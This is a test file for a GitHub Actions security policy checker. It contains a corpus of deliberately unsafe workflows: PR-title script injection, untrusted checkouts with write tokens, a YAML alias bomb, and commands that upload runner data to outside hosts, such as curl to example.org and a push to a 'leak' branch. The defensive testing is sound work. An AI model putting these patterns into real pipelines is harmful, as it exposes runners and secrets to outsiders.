/**
 * One small workflow per attack, made by code: each must come back as an ERROR naming the file and
 * the line where the attack is written. Every attack is valid for GitHub's own parser unless it is
 * an attack on the reading itself (anchors, tags, merge keys, …), so the finding is the policy's,
 * not a syntax error that would hide it.
 */
import { describe, expect, it } from 'vitest';
import { checkFiles, DEFAULT_BRANCH_IF, errorsOf, HEADER, lineOf } from './policy-check.js';

interface Attack {
  name: string;
  files: Record<string, string>;
  rule: string;
  file?: string;
  /** Text on the line the finding must point at (first line that holds it). */
  at: string;
  /** Text the message must hold (the job, the reason). */
  says?: RegExp;
  /** The attack is on YAML or GitHub's reading itself: a parse finding is the expected one. */
  syntax?: boolean;
}

const W = '.github/workflows/attack.yml';
const wf = (on: string, jobs: string, extra = '') => `on: ${on}\n${HEADER}${extra}jobs:\n${jobs}`;
const job = (name: string, runsOn: string, steps: string, extra = '') =>
  `  ${name}:\n${extra}    runs-on: ${runsOn}\n    steps:\n${steps}`;
const RUN = '      - run: make\n';
const SHA = 'a'.repeat(40);
const SAFE_CHECKOUT =
  '      - uses: actions/checkout@v4\n        with:\n          persist-credentials: false\n';
/** A self-hosted job gated as recommended, on schedule: only its steps can be wrong. */
const scheduled = (steps: string) =>
  wf(
    '\n  schedule:\n    - cron: "0 2 * * 1"\n  workflow_dispatch:',
    job('regen', '[self-hosted, linux]', steps, `${DEFAULT_BRANCH_IF}\n`),
  );
const prJob = (steps: string, on = 'pull_request') => wf(on, job('build', 'ubuntu-latest', steps));
const composite = (steps: string) =>
  `name: x\ndescription: x\ninputs:\n  title:\n    description: t\nruns:\n  using: composite\n  steps:\n${steps}`;

const ATTACKS: Attack[] = [
  // 1. YAML as GitHub reads it
  {
    name: 'an alias carries a self-hosted runner into a pull-request job',
    files: {
      [W]: wf(
        'pull_request',
        `${job('a', '&runner [self-hosted, linux]', RUN, '    if: false\n')}${job('b', '*runner', RUN)}`,
      ),
    },
    rule: 'workflow/self-hosted-trigger',
    at: '&runner',
    says: /job "b"/,
  },
  {
    name: 'a whole job is an alias of a self-hosted job',
    files: {
      [W]: wf('pull_request', `  a: &job\n    runs-on: [self-hosted]\n    steps:\n${RUN}  b: *job\n`),
    },
    rule: 'workflow/self-hosted-trigger',
    at: 'runs-on: [self-hosted]',
    says: /job "b"/,
  },
  {
    name: 'a merge key',
    files: { [W]: wf('push', `  a:\n    <<: {runs-on: self-hosted}\n    steps:\n${RUN}`) },
    rule: 'workflow/yaml',
    at: '<<:',
    syntax: true,
  },
  {
    name: 'a duplicate key (the second runs-on wins somewhere)',
    files: {
      [W]: wf(
        'pull_request',
        `  a:\n    runs-on: ubuntu-latest\n    runs-on: self-hosted\n    steps:\n${RUN}`,
      ),
    },
    rule: 'workflow/yaml',
    at: 'runs-on: self-hosted',
    syntax: true,
  },
  {
    name: 'an explicit tag',
    files: { [W]: wf('pull_request', job('a', '!runner self-hosted', RUN)) },
    rule: 'workflow/yaml',
    at: '!runner',
    syntax: true,
  },
  {
    name: 'two documents in one file',
    files: {
      [W]: `${wf('schedule', job('a', 'ubuntu-latest', RUN))}---\n${wf('pull_request', job('b', 'self-hosted', RUN))}`,
    },
    rule: 'workflow/yaml',
    at: '---',
    syntax: true,
  },
  {
    name: 'a %YAML 1.1 directive (on: becomes true: for some readers)',
    files: { [W]: `%YAML 1.1\n---\n${wf('pull_request', job('a', 'self-hosted', RUN))}` },
    rule: 'workflow/yaml',
    at: '%YAML',
    syntax: true,
  },
  {
    name: 'an alias bomb',
    files: {
      [W]: [
        'on: pull_request',
        'env:',
        '  A: &a ["x","x","x","x","x","x","x","x","x","x"]',
        ...'bcdefg'
          .split('')
          .map((c, i) => `  ${c.toUpperCase()}: &${c} [${Array(10).fill(`*${'abcdefg'[i]}`).join(',')}]`),
        'jobs: {a: {runs-on: ubuntu-latest, steps: [{run: x}]}}',
      ].join('\n'),
    },
    rule: 'workflow/yaml',
    at: 'on: pull_request',
    syntax: true,
  },
  {
    name: 'a key GitHub does not know (the policy cannot say what GitHub runs)',
    files: {
      [W]: wf(
        'pull_request',
        `  a:\n    runs-on: ubuntu-latest\n    Runs-On: self-hosted\n    steps:\n${RUN}`,
      ),
    },
    rule: 'workflow/github-parse',
    at: 'Runs-On',
    syntax: true,
  },
  // 2. Triggers in every form
  {
    name: "an event name in another case ('Pull_Request')",
    files: { [W]: wf('Pull_Request', job('a', 'self-hosted', RUN)) },
    rule: 'workflow/self-hosted-trigger',
    at: 'runs-on: self-hosted',
    // GitHub's editor parser refuses the spelling; the policy reads it as the event either way.
    syntax: true,
  },
  {
    name: 'pull_request_target in a list',
    files: { [W]: wf('[push, pull_request_target]', job('a', 'ubuntu-latest', RUN)) },
    rule: 'workflow/pull-request-target',
    at: 'on: [push',
  },
  {
    name: 'pull_request with filters',
    files: {
      [W]: wf(
        '\n  pull_request:\n    branches: [main]\n    paths: ["src/**"]',
        job('a', '[self-hosted, gpu]', RUN),
      ),
    },
    rule: 'workflow/self-hosted-trigger',
    at: 'self-hosted, gpu',
  },
  {
    name: 'push on any branch reaches a self-hosted job without a condition',
    files: { [W]: wf('push', job('a', 'self-hosted', SAFE_CHECKOUT)) },
    rule: 'workflow/self-hosted-branch',
    at: 'runs-on: self-hosted',
  },
  {
    name: 'a release event (any ref) reaches a self-hosted job',
    files: { [W]: wf('release', job('a', 'self-hosted', SAFE_CHECKOUT)) },
    rule: 'workflow/self-hosted-branch',
    at: 'runs-on: self-hosted',
  },
  // 3. Conditions as GitHub evaluates them
  {
    name: '`if: |` with ${{ }} is always true',
    files: {
      [W]: wf(
        '[pull_request, schedule]',
        job('a', 'self-hosted', SAFE_CHECKOUT, "    if: |\n      ${{ github.event_name == 'schedule' }}\n"),
      ),
    },
    rule: 'workflow/self-hosted-trigger',
    at: 'runs-on: self-hosted',
  },
  {
    name: 'text outside ${{ }} makes any condition true',
    files: {
      [W]: wf(
        '[pull_request, schedule]',
        job(
          'a',
          'self-hosted',
          SAFE_CHECKOUT,
          '    if: "${{ github.event_name == \'schedule\' }} && true"\n',
        ),
      ),
    },
    rule: 'workflow/self-hosted-trigger',
    at: 'runs-on: self-hosted',
  },
  {
    name: 'a condition an outsider decides (the PR title)',
    files: {
      [W]: wf(
        '[pull_request, schedule]',
        job(
          'a',
          'self-hosted',
          SAFE_CHECKOUT,
          "    if: github.event_name == 'schedule' || github.event.pull_request.title != ''\n",
        ),
      ),
    },
    rule: 'workflow/self-hosted-trigger',
    at: 'runs-on: self-hosted',
  },
  {
    name: 'a condition on the repository name (true in this repository, for forks’ pull requests too)',
    files: {
      [W]: wf(
        'pull_request',
        job(
          'a',
          'self-hosted',
          SAFE_CHECKOUT,
          "    if: github.repository == 'clinical/clinical-manifests'\n",
        ),
      ),
    },
    rule: 'workflow/self-hosted-trigger',
    at: 'runs-on: self-hosted',
  },
  {
    name: 'a label check (labels are set by triagers, read by forks)',
    files: {
      [W]: wf(
        'pull_request',
        job(
          'a',
          'self-hosted',
          SAFE_CHECKOUT,
          "    if: contains(github.event.pull_request.labels.*.name, 'safe to test')\n",
        ),
      ),
    },
    rule: 'workflow/self-hosted-trigger',
    at: 'runs-on: self-hosted',
  },
  {
    name: 'a default-branch test on pull_request_target (it runs on the default branch)',
    files: {
      [W]: wf(
        'pull_request_target',
        job('a', 'self-hosted', SAFE_CHECKOUT, "    if: github.ref == 'refs/heads/main'\n"),
      ),
    },
    rule: 'workflow/self-hosted-trigger',
    at: 'runs-on: self-hosted',
  },
  {
    name: 'issue_comment with a command in the body',
    files: {
      [W]: wf(
        'issue_comment',
        job('a', 'self-hosted', SAFE_CHECKOUT, "    if: contains(github.event.comment.body, '/run')\n"),
      ),
    },
    rule: 'workflow/self-hosted-trigger',
    at: 'runs-on: self-hosted',
  },
  {
    name: 'workflow_run after a fork pull request',
    files: {
      [W]: wf(
        '\n  workflow_run:\n    workflows: [ci]\n    types: [completed]',
        job('a', 'self-hosted', SAFE_CHECKOUT),
      ),
    },
    rule: 'workflow/self-hosted-trigger',
    at: 'runs-on: self-hosted',
  },
  {
    name: 'pull_request_review',
    files: { [W]: wf('pull_request_review', job('a', 'self-hosted', SAFE_CHECKOUT)) },
    rule: 'workflow/self-hosted-trigger',
    at: 'runs-on: self-hosted',
  },
  {
    name: 'workflow_dispatch with an `||` that lets every dispatch through',
    files: {
      [W]: wf(
        'workflow_dispatch',
        job(
          'a',
          'self-hosted',
          SAFE_CHECKOUT,
          "    if: github.ref == 'refs/heads/main' || github.event_name == 'workflow_dispatch'\n",
        ),
      ),
    },
    rule: 'workflow/self-hosted-branch',
    at: 'runs-on: self-hosted',
  },
  {
    name: 'a second branch allowed beside the default one',
    files: {
      [W]: wf(
        'workflow_dispatch',
        job(
          'a',
          'self-hosted',
          SAFE_CHECKOUT,
          "    if: github.ref == 'refs/heads/main' || github.ref == 'refs/heads/attack'\n",
        ),
      ),
    },
    rule: 'workflow/self-hosted-branch',
    at: 'runs-on: self-hosted',
  },
  {
    name: 'a condition false for one pull request number only',
    files: {
      [W]: wf(
        'pull_request',
        job('a', 'self-hosted', SAFE_CHECKOUT, "    if: github.ref != 'refs/pull/1/merge'\n"),
      ),
    },
    rule: 'workflow/self-hosted-trigger',
    at: 'runs-on: self-hosted',
  },
  {
    name: 'a contains() branch test that a branch named `mai` passes',
    files: {
      [W]: wf(
        'workflow_dispatch',
        job('a', 'self-hosted', SAFE_CHECKOUT, "    if: contains('refs/heads/main', github.ref)\n"),
      ),
    },
    rule: 'workflow/self-hosted-branch',
    at: 'runs-on: self-hosted',
  },
  {
    name: 'a startsWith() branch test that `main-x` passes',
    files: {
      [W]: wf(
        'push',
        job('a', 'self-hosted', SAFE_CHECKOUT, "    if: startsWith(github.ref, 'refs/heads/main')\n"),
      ),
    },
    rule: 'workflow/self-hosted-branch',
    at: 'runs-on: self-hosted',
  },
  // 4. Reusable workflows
  {
    name: 'a reusable workflow two levels deep',
    files: {
      [W]: wf('pull_request', '  call:\n    uses: ./.github/workflows/mid.yml\n'),
      '.github/workflows/mid.yml': wf('workflow_call', '  call:\n    uses: ./.github/workflows/leaf.yml\n'),
      '.github/workflows/leaf.yml': wf('workflow_call', job('work', '[self-hosted, linux]', SAFE_CHECKOUT)),
    },
    rule: 'workflow/self-hosted-trigger',
    file: '.github/workflows/leaf.yml',
    at: 'runs-on: [self-hosted',
    says: /through \.github\/workflows\/mid\.yml job "call"/,
  },
  {
    name: 'reusable workflows calling each other in a cycle',
    files: {
      [W]: wf('issue_comment', '  call:\n    uses: ./.github/workflows/b.yml\n'),
      '.github/workflows/b.yml': wf(
        'workflow_call',
        `  back:\n    if: false\n    uses: ./.github/workflows/attack.yml\n${job('work', 'gpu-box', SAFE_CHECKOUT)}`,
      ),
    },
    rule: 'workflow/self-hosted-trigger',
    file: '.github/workflows/b.yml',
    at: 'gpu-box',
  },
  {
    name: 'a remote reusable workflow at a tag',
    files: { [W]: wf('schedule', '  call:\n    uses: someone/else/.github/workflows/build.yml@v1\n') },
    rule: 'workflow/unpinned-reusable',
    at: 'someone/else',
  },
  {
    name: 'this repository called as a remote reusable workflow at a branch',
    files: { [W]: wf('push', '  call:\n    uses: owner/repository/.github/workflows/build.yml@main\n') },
    rule: 'workflow/unpinned-reusable',
    at: 'owner/repository',
  },
  {
    name: 'a call in a form the policy does not resolve',
    files: { [W]: wf('pull_request', '  call:\n    uses: $/build.yml\n') },
    rule: 'workflow/unpinned-reusable',
    at: '$/build.yml',
  },
  {
    name: 'a local reusable workflow that is not in the repository',
    files: { [W]: wf('pull_request', '  call:\n    uses: ./.github/workflows/missing.yml\n') },
    rule: 'workflow/reusable-unresolved',
    at: 'missing.yml',
  },
  {
    name: 'an uncalled reusable workflow on a self-hosted runner (any caller, any ref)',
    files: { [W]: wf('workflow_call', job('a', 'self-hosted', SAFE_CHECKOUT)) },
    rule: 'workflow/self-hosted-branch',
    at: 'runs-on: self-hosted',
  },
  // 5. runs-on
  {
    name: 'a composed label gpu-${{ matrix.os }}',
    files: {
      [W]: wf(
        'pull_request',
        `  a:\n    strategy:\n      matrix:\n        os: [ubuntu-latest]\n    runs-on: gpu-\${{ matrix.os }}\n    steps:\n${RUN}`,
      ),
    },
    rule: 'workflow/self-hosted-trigger',
    at: 'gpu-${{',
  },
  {
    name: 'a runner group',
    files: { [W]: wf('pull_request', `  a:\n    runs-on:\n      group: data\n    steps:\n${RUN}`) },
    rule: 'workflow/self-hosted-trigger',
    at: 'group: data',
  },
  {
    name: 'runners from a repository variable',
    files: { [W]: wf('pull_request', job('a', '${{ fromJSON(vars.RUNNERS) }}', RUN)) },
    rule: 'workflow/self-hosted-trigger',
    at: 'fromJSON(vars',
  },
  {
    name: 'a runner chosen by the fork flag',
    files: {
      [W]: wf(
        'pull_request',
        job('a', "${{ github.event.pull_request.head.repo.fork && 'ubuntu-latest' || 'self-hosted' }}", RUN),
      ),
    },
    rule: 'workflow/self-hosted-trigger',
    at: 'head.repo.fork',
  },
  {
    name: 'a matrix include with an expression runner',
    files: {
      [W]: wf(
        'pull_request',
        `  a:\n    strategy:\n      matrix:\n        include:\n          - os: \${{ inputs.runner }}\n    runs-on: \${{ matrix.os }}\n    steps:\n${RUN}`,
      ),
    },
    rule: 'workflow/self-hosted-trigger',
    at: 'inputs.runner',
  },
  {
    name: 'a custom label that looks hosted',
    files: { [W]: wf('pull_request', job('a', 'ubuntu-latest-gpu', RUN)) },
    rule: 'workflow/self-hosted-trigger',
    at: 'ubuntu-latest-gpu',
  },
  // 6. Composite actions of the repository
  {
    name: "a composite action's input carries the PR title into run",
    files: {
      [W]: prJob(
        '      - uses: ./actions/greet\n        with:\n          title: ${{ github.event.pull_request.title }}\n',
      ),
      'actions/greet/action.yml': composite('    - shell: bash\n      run: echo "${{ inputs.title }}"\n'),
    },
    rule: 'workflow/untrusted-expression',
    file: 'actions/greet/action.yml',
    at: 'inputs.title',
    says: /used by job "build"/,
  },
  {
    name: 'a composite action uploads a release from a self-hosted job',
    files: {
      [W]: scheduled(`${SAFE_CHECKOUT}      - uses: ./actions/publish\n`),
      'actions/publish/action.yml': composite(
        '    - shell: bash\n      run: gh release upload v1 outputs/all.tar\n',
      ),
    },
    rule: 'workflow/self-hosted-upload',
    file: 'actions/publish/action.yml',
    at: 'gh release upload',
  },
  {
    name: 'a composite action re-checks out with credentials on a self-hosted job',
    files: {
      [W]: scheduled(`${SAFE_CHECKOUT}      - uses: ./actions/fetch\n`),
      'actions/fetch/action.yaml': composite(
        '    - uses: actions/checkout@v4\n      with:\n        fetch-depth: 0\n',
      ),
    },
    rule: 'workflow/persist-credentials',
    file: 'actions/fetch/action.yaml',
    at: 'actions/checkout@v4',
  },
  {
    name: 'a composite action nested in a composite action uses a third-party action at a tag',
    files: {
      [W]: scheduled(`${SAFE_CHECKOUT}      - uses: ./actions/outer\n`),
      'actions/outer/action.yml': composite('    - uses: ./actions/inner\n'),
      'actions/inner/action.yml': composite('    - uses: someone/tool@v2\n'),
    },
    rule: 'workflow/unpinned-action',
    file: 'actions/inner/action.yml',
    at: 'someone/tool@v2',
  },
  // 7. Outsider data followed
  {
    name: 'workflow env carries the title',
    files: {
      [W]: prJob('      - run: echo "${{ env.T }}"\n').replace(
        'jobs:',
        'env:\n  T: ${{ github.event.pull_request.title }}\njobs:',
      ),
    },
    rule: 'workflow/untrusted-expression',
    at: 'env.T',
  },
  {
    name: 'job env carries the head ref',
    files: {
      [W]: wf(
        'pull_request',
        job(
          'a',
          'ubuntu-latest',
          '      - run: git log ${{ env.REF }}\n',
          '    env:\n      REF: ${{ github.head_ref }}\n',
        ),
      ),
    },
    rule: 'workflow/untrusted-expression',
    at: 'env.REF',
  },
  {
    name: 'step env carries an issue body',
    files: {
      [W]: prJob(
        '      - env:\n          B: ${{ github.event.issue.body }}\n        run: echo ${{ env.B }}\n',
        'issues',
      ),
    },
    rule: 'workflow/untrusted-expression',
    at: 'env.B',
  },
  {
    name: 'bracket notation',
    files: { [W]: prJob("      - run: echo \"${{ github['event']['pull_request']['title'] }}\"\n") },
    rule: 'workflow/untrusted-expression',
    at: "github['event']",
  },
  {
    name: 'mixed bracket and dot notation',
    files: { [W]: prJob('      - run: echo "${{ github.event[\'pull_request\'].body }}"\n') },
    rule: 'workflow/untrusted-expression',
    at: "github.event['pull_request']",
  },
  {
    name: 'toJSON of the whole event',
    files: { [W]: prJob("      - run: echo '${{ toJSON(github.event) }}' > e.json\n") },
    rule: 'workflow/untrusted-expression',
    at: 'toJSON',
  },
  {
    name: 'a step output read from the event payload',
    files: {
      [W]: prJob(
        '      - id: t\n        run: echo "t=$(jq -r .pull_request.title "$GITHUB_EVENT_PATH")" >> "$GITHUB_OUTPUT"\n      - run: echo "${{ steps.t.outputs.t }}"\n',
      ),
    },
    rule: 'workflow/untrusted-expression',
    at: 'steps.t.outputs.t',
  },
  {
    name: 'a job output through needs',
    files: {
      [W]: wf(
        'pull_request',
        `  a:\n    runs-on: ubuntu-latest\n    outputs:\n      title: \${{ steps.s.outputs.v }}\n    steps:\n      - id: s\n        env:\n          T: \${{ github.event.pull_request.title }}\n        run: echo "v=$T" >> "$GITHUB_OUTPUT"\n  b:\n    needs: a\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo "\${{ needs.a.outputs.title }}"\n`,
      ),
    },
    rule: 'workflow/untrusted-expression',
    at: 'needs.a.outputs.title',
  },
  {
    name: 'a matrix built from the title',
    files: {
      [W]: wf(
        'pull_request',
        `  a:\n    strategy:\n      matrix:\n        t: ["\${{ github.event.pull_request.title }}"]\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo \${{ matrix.t }}\n`,
      ),
    },
    rule: 'workflow/untrusted-expression',
    at: 'matrix.t }}',
  },
  {
    name: 'a workflow_call input filled with the title',
    files: {
      [W]: wf(
        'pull_request',
        '  call:\n    uses: ./.github/workflows/lib.yml\n    with:\n      title: ${{ github.event.pull_request.title }}\n',
      ),
      '.github/workflows/lib.yml': wf(
        '\n  workflow_call:\n    inputs:\n      title:\n        type: string',
        job('a', 'ubuntu-latest', '      - run: echo "${{ inputs.title }}"\n'),
      ),
    },
    rule: 'workflow/untrusted-expression',
    file: '.github/workflows/lib.yml',
    at: 'inputs.title',
  },
  {
    name: 'github-script with the comment body in its script',
    files: {
      [W]: prJob(
        '      - uses: actions/github-script@v7\n        with:\n          script: |\n            console.log("${{ github.event.comment.body }}")\n',
        'issue_comment',
      ),
    },
    rule: 'workflow/untrusted-expression',
    at: 'comment.body',
  },
  {
    name: 'the title through GITHUB_ENV into a later step',
    files: {
      [W]: prJob(
        '      - env:\n          T: ${{ github.event.pull_request.title }}\n        run: echo "TITLE=$T" >> "$GITHUB_ENV"\n      - run: echo "${{ env.TITLE }}"\n',
      ),
    },
    rule: 'workflow/untrusted-expression',
    at: 'env.TITLE',
  },
  {
    name: 'a comment body written to GITHUB_ENV on issue_comment',
    files: {
      [W]: prJob(
        '      - env:\n          B: ${{ github.event.comment.body }}\n        run: echo "X=$B" >> "$GITHUB_ENV"\n',
        'issue_comment',
      ),
    },
    rule: 'workflow/github-env',
    at: 'GITHUB_ENV',
  },
  {
    name: 'an action path that climbs out of actions/ at a tag on a self-hosted job',
    files: { [W]: scheduled(`${SAFE_CHECKOUT}      - uses: actions/checkout/../../someone/tool@v1\n`) },
    rule: 'workflow/unpinned-action',
    at: 'someone/tool@v1',
    syntax: true,
  },
  // 8. Uploads
  ...(
    [
      ['gh release upload', 'gh release upload v1 results.tar'],
      ['gh gist create', 'gh gist create report.txt'],
      ['curl -T', 'curl -T results.tar https://example.org/up'],
      ['curl -F @', 'curl -F "f=@results.tar" https://example.org/up'],
      ['aws s3 sync', 'aws s3 sync cache/ s3://bucket/'],
      ['gsutil cp', 'gsutil cp x.tar gs://bucket/'],
      ['rclone copy', 'rclone copy cache remote:bucket'],
      ['scp', 'scp x.tar me@host:/tmp/'],
      ['rsync', 'rsync -a cache/ host:/srv/'],
      ['git push', 'git push origin HEAD:refs/heads/leak'],
      ['docker push', 'docker push ghcr.io/x/y:latest'],
    ] as const
  ).map(
    ([name, command]): Attack => ({
      name: `${name} in run: on a self-hosted job`,
      files: { [W]: scheduled(`${SAFE_CHECKOUT}      - run: |\n          make\n          ${command}\n`) },
      rule: 'workflow/self-hosted-upload',
      at: command,
    }),
  ),
  {
    name: 'aws s3 cp of the outputs from a GitHub-hosted job',
    files: { [W]: prJob('      - run: aws s3 cp --recursive outputs/ s3://bucket/\n', 'push') },
    rule: 'workflow/upload-data',
    at: 'aws s3 cp',
  },
  {
    name: 'a release action on a self-hosted job, even pinned',
    files: {
      [W]: scheduled(
        `${SAFE_CHECKOUT}      - uses: softprops/action-gh-release@${SHA}\n        with:\n          files: results.tar\n`,
      ),
    },
    rule: 'workflow/self-hosted-upload',
    at: 'softprops/action-gh-release',
  },
  {
    name: 'a release action that sends the outputs',
    files: {
      [W]: prJob(
        '      - uses: ncipollo/release-action@v1\n        with:\n          artifacts: outputs/*.png\n',
        'push',
      ),
    },
    rule: 'workflow/upload-data',
    at: 'ncipollo/release-action',
  },
  {
    name: 'a cache on a self-hosted job',
    files: {
      [W]: scheduled(
        `${SAFE_CHECKOUT}      - uses: actions/cache@v4\n        with:\n          path: ~/.npm\n          key: npm\n`,
      ),
    },
    rule: 'workflow/self-hosted-upload',
    at: 'actions/cache@v4',
  },
  {
    name: 'an artifact of a runner path on a self-hosted job',
    files: {
      [W]: scheduled(
        `${SAFE_CHECKOUT}      - uses: actions/upload-artifact@v4\n        with:\n          name: x\n          path: \${{ runner.temp }}/cache\n`,
      ),
    },
    rule: 'workflow/self-hosted-upload',
    at: 'upload-artifact',
  },
  {
    name: 'an artifact of the data directory from a GitHub-hosted job',
    files: {
      [W]: prJob(
        '      - uses: actions/upload-artifact@v4\n        with:\n          name: x\n          path: |\n            data/\n',
      ),
    },
    rule: 'workflow/upload-data',
    at: 'upload-artifact',
  },
  // 9. Pins
  {
    name: 'a third-party action at a tag on a self-hosted job',
    files: { [W]: scheduled(`${SAFE_CHECKOUT}      - uses: someone/setup-tool@v3\n`) },
    rule: 'workflow/unpinned-action',
    at: 'someone/setup-tool@v3',
  },
  {
    name: 'a docker action without a digest on a self-hosted job',
    files: { [W]: scheduled(`${SAFE_CHECKOUT}      - uses: docker://alpine:3\n`) },
    rule: 'workflow/unpinned-action',
    at: 'docker://alpine',
  },
  {
    name: 'a service container at a tag on a self-hosted job',
    files: {
      [W]: scheduled(SAFE_CHECKOUT).replace(
        '    runs-on: [self-hosted, linux]\n',
        '    runs-on: [self-hosted, linux]\n    services:\n      db:\n        image: postgres:16\n',
      ),
    },
    rule: 'workflow/unpinned-image',
    at: 'postgres:16',
  },
  // 10. Permissions and privileged events
  {
    name: 'top-level write-all',
    files: { [W]: `on: push\npermissions: write-all\njobs:\n${job('a', 'ubuntu-latest', RUN)}` },
    rule: 'workflow/permissions',
    at: 'write-all',
  },
  {
    name: 'no top-level permissions',
    files: { [W]: `on: push\njobs:\n${job('a', 'ubuntu-latest', RUN)}` },
    rule: 'workflow/permissions',
    at: 'on: push',
  },
  {
    name: 'job-level write-all',
    files: { [W]: wf('push', job('a', 'ubuntu-latest', RUN, '    permissions: write-all\n')) },
    rule: 'workflow/job-permissions',
    at: 'permissions: write-all',
  },
  {
    name: 'an OIDC token on pull requests',
    files: {
      [W]: wf('pull_request', job('a', 'ubuntu-latest', RUN, '    permissions:\n      id-token: write\n')),
    },
    rule: 'workflow/job-permissions',
    at: 'id-token',
  },
  {
    name: 'workflow_run with a write token checking out the PR head',
    files: {
      [W]: wf(
        '\n  workflow_run:\n    workflows: [ci]\n    types: [completed]',
        job(
          'a',
          'ubuntu-latest',
          '      - uses: actions/checkout@v4\n        with:\n          ref: ${{ github.event.workflow_run.head_sha }}\n      - run: npm test\n',
          '    permissions:\n      contents: write\n',
        ),
      ),
    },
    rule: 'workflow/untrusted-checkout',
    at: 'workflow_run.head_sha',
  },
  {
    name: 'workflow_run with a write token',
    files: {
      [W]: wf(
        '\n  workflow_run:\n    workflows: [ci]',
        job('a', 'ubuntu-latest', RUN, '    permissions:\n      contents: write\n'),
      ),
    },
    rule: 'workflow/job-permissions',
    at: 'contents: write',
  },
  {
    name: 'issue_comment checking out refs/pull/N/head',
    files: {
      [W]: prJob(
        '      - uses: actions/checkout@v4\n        with:\n          ref: refs/pull/${{ github.event.issue.number }}/head\n',
        'issue_comment',
      ),
    },
    rule: 'workflow/untrusted-checkout',
    at: 'refs/pull/',
  },
  {
    name: 'pull_request_review_comment running gh pr checkout',
    files: {
      [W]: prJob(
        '      - run: gh pr checkout ${{ github.event.pull_request.number }}\n',
        'pull_request_review_comment',
      ),
    },
    rule: 'workflow/untrusted-checkout',
    at: 'gh pr checkout',
  },
  {
    name: 'pull_request_target checking out the head in bracket notation',
    files: {
      [W]: prJob(
        "      - uses: actions/checkout@v4\n        with:\n          ref: ${{ github['event']['pull_request']['head']['sha'] }}\n",
        'pull_request_target',
      ),
    },
    rule: 'workflow/untrusted-checkout',
    at: "github['event']",
  },
  // 11. A self-hosted job that never runs when it should (warning, the guard's one non-error here)
];

describe('attack corpus: every unsafe workflow is an error naming its file and line', () => {
  it('has enough attacks', () => {
    expect(ATTACKS.length).toBeGreaterThanOrEqual(60);
  });

  for (const attack of ATTACKS) {
    it(attack.name, async () => {
      const findings = await checkFiles(attack.files);
      const file = attack.file ?? W;
      const line = lineOf(attack.files[file]!, attack.at);
      const errors = errorsOf(findings);
      const match = errors.find(
        (f) =>
          f.rule === attack.rule &&
          f.file === file &&
          f.line === line &&
          (!attack.says || attack.says.test(f.message)),
      );
      expect(
        match,
        `expected ${attack.rule} at ${file}:${line}, got ${JSON.stringify(errors.map((f) => `${f.rule} ${f.file}:${f.line}`))}`,
      ).toBeDefined();
      if (!attack.syntax) expect(findings.filter((f) => f.rule === 'workflow/github-parse')).toEqual([]);
    });
  }
});
